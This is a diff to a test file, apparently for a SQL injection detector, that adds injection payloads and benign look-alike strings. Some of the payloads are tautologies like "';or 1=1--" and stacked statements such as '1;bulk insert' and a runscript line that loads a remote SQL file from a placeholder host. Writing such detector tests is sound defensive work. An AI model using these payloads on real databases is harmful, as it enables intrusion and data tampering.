@@ -30,6 +30,42 @@ describe('attacks', () => {
         "exec'x\\'",
       ],
     ],
+    [
+      'constants joined or compared as only SQL does',
+      [
+        '1 between 0 and 2',
+        '1 in (1,2)',
+        '1 not in (2)',
+        '1 like 1',
+        '1 is not null',
+        '1 or true',
+        '1 and -1',
+        '1 or ~1',
+        '1 and (1)',
+        'or a=a',
+        'hi or a.b = a.b',
+        '; or 1=1',
+        "';or 1=1--",
+        "OR '[1,2]' ? '1'",
+        'OR \'{"b":2}\'::jsonb <@ \'{"b":2}\'::jsonb',
+        "' or 1::int=1 --",
+        "' or 'a' @@ 'a",
+      ],
+    ],
+    [
+      'short statements behind a constant',
+      [
+        '1;commit',
+        "';vacuum--",
+        '1;use master',
+        "1;raiserror('x',16,1)",
+        '1;print @@version',
+        '1;pragma database_list',
+        "1;bulk insert t from 'f'",
+        "1;runscript from 'http://a.example/x.sql'",
+        "1;create alias x as 'y'",
+      ],
+    ],
     ['between double quotes', ['" or "a"="a', '" or 1=1-- ', '") or ("1"="1', 'x" union select 1,2#']],
     ['between backquotes', ['x` or 1=1-- ', '`id` union select 1,2 -- `', 'a` = 1 or 1=1 #']],
     [
@@ -182,6 +218,21 @@ describe('attacks', () => {
 
 describe('data', () => {
   it.each<[string, readonly string[]]>([
+    [
+      'numbers and names that people join',
+      [
+        '1 or 2',
+        '1 and 2',
+        '5 in 2',
+        'Chapter 5 in (2)',
+        'tea or coffee=tea',
+        'fix the bug; commit',
+        'Chapter 3; use it',
+        '1;commit to it all',
+        'let x = a? "b" : "c";',
+        'a::b',
+      ],
+    ],
     [
       'names',
       [
